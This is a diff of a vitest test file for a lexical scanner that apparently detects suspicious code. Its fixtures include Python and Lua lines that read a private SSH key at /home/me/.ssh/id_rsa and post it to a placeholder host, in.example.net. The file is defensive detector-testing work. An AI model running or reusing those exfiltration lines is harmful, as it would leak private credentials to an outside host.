@@ -1,9 +1,13 @@
 import { describe, expect, it } from 'vitest';
 import type { Language } from '../../types/index.ts';
-import { LEXICAL_LIMITS, scanLexically } from './lexical.scan.ts';
+import { LEXICAL_LIMITS, scanLexically, WEIGHT_MIN } from './lexical.scan.ts';
 
-const linesOf = (text: string, lang: Language, isStrict = false): (readonly [number, readonly string[]])[] =>
-  scanLexically(text, lang, isStrict).map(({ start, roles }) => [text.slice(0, start).split('\n').length, roles]);
+const linesOf = (
+  text: string,
+  lang: Language,
+  weightMin: number = WEIGHT_MIN.lexical,
+): (readonly [number, readonly string[]])[] =>
+  scanLexically(text, lang, weightMin).map(({ start, roles }) => [text.slice(0, start).split('\n').length, roles]);
 
 describe('the lexical scanner', () => {
   it.each<readonly [Language, string, string]>([
@@ -41,10 +45,21 @@ describe('the lexical scanner', () => {
   it('needs roles that meet where the language is followed anyway', () => {
     const lone = 'import subprocess\nsubprocess.run(["ls"])\n';
 
-    expect(linesOf(lone, 'python', true)).toEqual([]);
+    expect(linesOf(lone, 'python', WEIGHT_MIN.followed)).toEqual([]);
     expect(
-      linesOf("requests.post('https://in.example.net', data=open('/home/me/.ssh/id_rsa'))\n", 'python', true),
+      linesOf(
+        "requests.post('https://in.example.net', data=open('/home/me/.ssh/id_rsa'))\n",
+        'python',
+        WEIGHT_MIN.followed,
+      ),
     ).toHaveLength(1);
+  });
+
+  it('covers the stretch of lines whose roles meet', () => {
+    const text = `key = read("/home/me/.ssh/id_rsa")\n\nx = 1\nhttp.post("https://in.example.net", key)\n`;
+    const [hint] = scanLexically(text, 'lua', WEIGHT_MIN.lexical);
+
+    expect(text.slice(hint?.stretch.start, hint?.stretch.end)).toBe(text.trimEnd());
   });
 
   it('knows addresses of machines, mailboxes and payments', () => {
